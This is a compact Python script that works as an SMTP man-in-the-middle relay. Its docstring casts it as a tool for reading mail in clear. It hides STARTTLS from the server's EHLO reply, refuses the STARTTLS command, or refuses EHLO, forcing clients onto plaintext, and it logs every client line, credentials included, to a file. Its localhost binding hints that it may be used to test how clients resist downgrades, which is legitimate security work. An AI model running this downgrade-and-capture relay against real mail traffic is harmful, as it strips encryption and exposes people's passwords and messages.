"""Who sits between a client and its SMTP server and wants the mail in clear.

usage: smtp_strip.py SERVER_PORT FILE PORT MODE [PORT MODE]…
MODE "hide" takes STARTTLS out of what EHLO offers, "deny" refuses the command, "old" refuses EHLO. Each line of a client is kept
in FILE as "MODE LINE" (RFC 5321 §4.1, RFC 3207 §6).
"""
import asyncio
import sys


async def relay(mode, kept, reader, writer):
    async def answers(server):
        while line := await server.readline():
            if mode == "hide" and line[4:].strip() == b"STARTTLS":
                line = b"250" + line[3:4] + b"X-NOTHING\r\n"
            writer.write(line)

    server, to_server = await asyncio.open_connection("127.0.0.1", int(sys.argv[1]))
    task = asyncio.create_task(answers(server))
    while line := await reader.readline():
        word = line[:8].strip().upper()
        kept.write(f"{mode} {line.decode('latin-1').strip()}\n")
        kept.flush()
        if (mode, word[:4]) == ("old", b"EHLO") or (mode, word) == ("deny", b"STARTTLS"):
            writer.write(b"502 not here\r\n")
        else:
            to_server.write(line)
    to_server.close()
    task.cancel()
    writer.close()


async def main():
    with open(sys.argv[2], "a") as kept:
        servers = [await asyncio.start_server(lambda r, w, mode=mode: relay(mode, kept, r, w), "127.0.0.1", int(port))
                   for port, mode in zip(sys.argv[3::2], sys.argv[4::2])]
        await asyncio.gather(*(s.serve_forever() for s in servers))


asyncio.run(main())
